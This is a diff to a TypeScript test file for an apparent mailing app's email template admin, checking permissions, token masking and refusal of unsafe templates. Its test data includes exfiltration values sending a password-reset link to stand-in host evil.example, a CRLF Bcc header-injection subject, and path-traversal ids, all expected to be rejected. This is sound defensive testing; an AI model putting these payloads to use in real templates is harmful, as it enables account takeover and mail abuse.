@@ -1,3 +1,5 @@
+import { writeFile } from "node:fs/promises";
+import { join } from "node:path";
 import { authEndpoints, contactEndpoints, mailAdminEndpoints } from "@listwise/contracts";
 import { eventually } from "../../testing/eventually";
 import { sentMails } from "../../testing/mails";
@@ -8,14 +10,21 @@ const { outbox, outboxMail, templates, saveTemplate, resetTemplate, previewTempl
 
 let site: TestApp;
 let admin: Awaited<ReturnType<TestApp["asAdmin"]>>;
+let owner: Awaited<ReturnType<TestApp["asAdmin"]>>;
 beforeAll(async () => {
   site = await startTestApp({ worker: true });
-  admin = await site.asAdmin();
+  [admin, owner] = [await site.asAdmin(), await site.asAdmin("superadmin")];
 });
 afterAll(() => site.close());
 
 const key = "new-password";
-const words = { subject: "Hello from {{product}}", text: "Choose another: {{link}}" };
+const words = { subject: "Hello from {{product}}", text: "Choose another:\n{{link}}" };
+const store = (subject: string, text: string) =>
+  site.ctx.pool.query(
+    `insert into email_templates (key, subject, text) values ($1, $2, $3)
+     on conflict (key) do update set subject = excluded.subject, text = excluded.text`,
+    [key, subject, text],
+  );
 const forget = (email: string) => site.call(authEndpoints.forgotPassword, { body: { email } });
 
 test("every template is told with what may stand in it, and each example can be sent as it is", async () => {
@@ -29,32 +38,80 @@ test("every template is told with what may stand in it, and each example can be 
 
 test("changed words are what goes out, and the product's own again after a reset", async () => {
   const user = await site.asUser();
-  const saved = await admin.call(saveTemplate, { params: { key }, body: { ...words, updatedAt: null } });
+  const saved = await owner.call(saveTemplate, { params: { key }, body: { ...words, updatedAt: null } });
   expect(saved.data).toMatchObject({ ...words, changed: true });
   await forget(user.email);
   const [mail] = await sentMails(site, user.email, 1);
   expect(mail?.subject).toBe("Hello from Listwise");
-  expect(mail?.text).toMatch(/^Choose another: http.*token=[\w-]+$/);
-  const back = await admin.call(resetTemplate, { params: { key } });
+  expect(mail?.text).toMatch(/^Choose another:\nhttp.*token=[\w-]+$/);
+  const back = await owner.call(resetTemplate, { params: { key } });
   expect(back.data).toMatchObject({ changed: false, updatedAt: null });
 });
 
 test("words without what the mail is sent for, and values that there are not, are refused", async () => {
   const body = { ...words, text: "Nothing to open", updatedAt: null };
-  expect(await admin.request(saveTemplate, { params: { key }, body })).toMatchObject({
+  expect(await owner.request(saveTemplate, { params: { key }, body })).toMatchObject({
     status: 400,
     body: {
       details: [{ path: "text", message: "The text needs {{link}}: without it the mail is of no use." }],
     },
   });
-  const unknown = { ...words, text: "{{link}} {{password}}", updatedAt: null };
-  expect((await admin.request(saveTemplate, { params: { key }, body: unknown })).status).toBe(400);
+  const unknown = { ...words, text: "{{link}}\n{{password}}", updatedAt: null };
+  expect((await owner.request(saveTemplate, { params: { key }, body: unknown })).status).toBe(400);
   expect(
-    (await admin.request(saveTemplate, { params: { key: "no-such" }, body: { ...words, updatedAt: null } }))
+    (await owner.request(saveTemplate, { params: { key: "no-such" }, body: { ...words, updatedAt: null } }))
       .status,
   ).toBe(404);
   const twoLines = { ...words, subject: "a\r\nBcc: all@x.example", updatedAt: null };
-  expect((await admin.request(saveTemplate, { params: { key }, body: twoLines })).status).toBe(400);
+  expect((await owner.request(saveTemplate, { params: { key }, body: twoLines })).status).toBe(400);
+});
+
+test("an admin does not become superadmin through the words of a mail with a secret link: they are not theirs to change", async () => {
+  for (const one of ["new-password", "confirm-address"]) {
+    const params = { key: one };
+    const answers = [
+      await admin.request(saveTemplate, { params, body: { ...words, updatedAt: null } }),
+      await admin.request(resetTemplate, { params }),
+      await admin.request(testTemplate, { params, body: words }),
+    ];
+    expect(answers.map(({ status }) => status)).toEqual([403, 403, 403]);
+  }
+  const { data } = await admin.call(templates);
+  expect(data.filter(({ superadminOnly }) => superadminOnly).map((one) => one.key)).toEqual([
+    "confirm-address",
+    "new-password",
+  ]);
+  expect(data.every(({ changed }) => !changed)).toBe(true);
+});
+
+const STOLEN = [
+  ["subject", "reset {{link}}", "{{link}}"],
+  ["subject", "reset {{  link }}", "{{link}}"],
+  ["text", "Reset", "https://evil.example/collect?u={{link}}"],
+  ["text", "Reset", "Open {{link}}"],
+  ["text", "Reset", "{{link}}{{link}}"],
+  ["text", "Reset", "{{link}}\n{{link}}.evil.example"],
+  ["text", "Reset", "{{link}}\nhttps://evil.example/collect"],
+  ["text", "Reset", "{{link}}\nwww.evil.example"],
+  ["text", "Reset", "{{link}}\nhttp://localhost:4000.evil.example/"],
+  ["text", "Reset", "{{link}}\nhttp://localhost:4000@evil.example/"],
+] as const;
+
+test.each(STOLEN)("a secret link cannot be led away in the %s by %j, %j", async (path, subject, text) => {
+  const body = { subject, text, updatedAt: null };
+  const { status, body: answer } = await owner.request(saveTemplate, { params: { key }, body });
+  expect({ status, details: answer.details }).toMatchObject({ status: 400, details: [{ path }] });
+  expect((await owner.request(previewTemplate, { params: { key }, body })).status).toBe(400);
+});
+
+test("words that an older version stored, with the secret link led away, are not sent", async () => {
+  const user = await site.asUser();
+  await store("reset {{link}}", "https://evil.example/collect?u={{link}}");
+  await forget(user.email);
+  const [mail] = await sentMails(site, user.email, 1);
+  expect(mail?.subject).toBe("Listwise: set a new password");
+  expect(mail?.text).not.toContain("evil.example");
+  await owner.call(resetTemplate, { params: { key } });
 });
 
 test("who saves over a version they did not see gets a conflict with it", async () => {
@@ -70,9 +127,9 @@ test("who saves over a version they did not see gets a conflict with it", async 
 });
 
 test("a test mail goes to the caller's own address", async () => {
-  const { to } = await admin.call(testTemplate, { params: { key }, body: words });
-  expect(to).toBe(admin.email);
-  const [mail] = await sentMails(site, admin.email, 1);
+  const { to } = await owner.call(testTemplate, { params: { key }, body: words });
+  expect(to).toBe(owner.email);
+  const [mail] = await sentMails(site, owner.email, 1);
   expect(mail).toMatchObject({ subject: "[Test] Hello from Listwise" });
 });
 
@@ -101,10 +158,28 @@ describe("the outbox", () => {
     const read = (await admin.call(outboxMail, { params })).data;
     expect(read).toMatchObject({ to: user.email, masked: true });
     expect(read.text).toMatch(/token=•••$/m);
-    const owner = await site.asAdmin("superadmin");
     const whole = (await owner.call(outboxMail, { params })).data;
     expect(whole.masked).toBe(false);
     expect(whole.text).toMatch(/token=[\w-]{20,}/);
+  });
+
+  test("a secret in a subject is masked in list, search and detail, and searching does not find it out", async () => {
+    const secret = "k3yT0k3n".repeat(6);
+    const at = "2026-01-01T00:00:00.000Z";
+    const subject = `reset ${site.ctx.config.publicUrl}/reset-password?token=${secret}`;
+    const file = join(site.ctx.config.dataDir, "outbox", "2026-01-01.json");
+    await writeFile(file, JSON.stringify({ at, to: "old@x.example", subject, text: `Or ${secret}` }));
+    const params = { id: "2026-01-01" };
+    const seen = [
+      await admin.call(outbox, { query: { search: "old@x.example" } }),
+      await admin.call(outboxMail, { params }),
+    ];
+    expect(JSON.stringify(seen)).not.toContain("k3y");
+    for (const guess of ["k3y", "token=k", secret]) {
+      expect((await admin.call(outbox, { query: { search: guess } })).data).toEqual([]);
+      expect((await owner.call(outbox, { query: { search: guess } })).data).toHaveLength(1);
+    }
+    expect((await owner.call(outboxMail, { params })).data).toMatchObject({ subject, masked: false });
   });
 
   test.each(["..%2Fsecret", "nothing-there", "..", "a/../../x"])("%s is no mail", async (id) => {
